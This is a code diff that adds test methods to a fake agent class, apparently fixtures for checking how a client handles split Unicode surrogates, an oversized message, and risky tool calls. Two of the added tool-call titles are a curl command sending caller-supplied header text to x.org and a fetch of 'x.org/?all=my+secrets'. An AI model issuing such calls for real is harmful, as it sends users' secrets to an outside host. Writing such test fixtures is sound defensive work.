@@ -122,6 +122,22 @@ class Agent(Speaking):
         self.update("tool_call_update", toolCallId="t", status="completed")
         self.reply("then I am done")
 
+    def do_half(self, rest: str) -> None:
+        self.say("half of \ud83d")
+        self.say("\ude00, and of \ud83d")
+        self.reply(" it")
+
+    def do_huge(self, rest: str) -> None:
+        """It asks for more than is read, and waits for the answer."""
+        os.write(1, b"{" + b"x" * (17 << 20) + b"\n")
+
+    def do_secret(self, rest: str) -> None:
+        self.update("tool_call", toolCallId="t", title=f"curl -H '{rest}' x.org", kind="execute", status="pending")
+        self.reply("then I am done")
+
+    def do_fetch(self, rest: str) -> None:
+        self._leave("plain", {"title": "Fetch https://x.org/?all=my+secrets", "kind": "fetch"})
+
     def do_ends(self, rest: str) -> None:
         self.say("so far")
         self.end(rest)
